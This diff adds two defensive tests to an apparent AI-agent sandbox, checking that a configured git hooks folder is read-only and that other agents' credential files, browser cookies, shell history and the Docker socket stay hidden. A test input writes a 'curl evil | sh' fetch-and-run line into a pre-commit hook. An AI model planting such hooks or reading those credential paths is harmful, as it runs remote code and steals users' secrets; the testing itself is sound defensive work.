@@ -89,6 +89,37 @@ def test_a_git_hook_cannot_be_planted_for_later(tmp_path: Path) -> None:
     assert not (hooks / "pre-commit").exists()
 
 
+def test_a_hooks_folder_git_is_configured_to_use_is_read_only_too(tmp_path: Path) -> None:
+    project = tmp_path / "project"
+    (project / ".git").mkdir(parents=True)
+    (project / ".git" / "config").write_text('[core]\n\tbare = false\n\thooksPath = ".husky"\n')
+    (project / ".husky").mkdir()
+    tool = make_tool(tmp_path)
+    _, result = run(tool, argv=["sh", "-c", "echo 'curl evil | sh' > .husky/pre-commit"])
+
+    assert "Read-only file system" in result.text
+    assert not (project / ".husky" / "pre-commit").exists()
+
+
+def test_other_agents_logins_browser_profiles_and_histories_are_hidden(tmp_path: Path) -> None:
+    home = Path.home()
+    secrets = {
+        home / ".codex" / "auth.json": "codex-token",
+        home / ".claude" / ".credentials.json": "claude-token",
+        home / ".mozilla" / "firefox" / "cookies.sqlite": "cookie-jar",
+        home / ".bash_history": "mysql -p hunter2",
+        home / ".docker" / "run" / "docker.sock": "a socket",
+    }
+    for path, text in secrets.items():
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text)
+    tool = make_tool(tmp_path)
+    _, result = run(tool, argv=["cat", *map(str, secrets)])
+
+    for text in secrets.values():
+        assert text not in result.text
+
+
 def test_agents_folders_and_credential_files_are_not_visible(tmp_path: Path) -> None:
     home = Path.home()
     (home / ".ssh").mkdir()
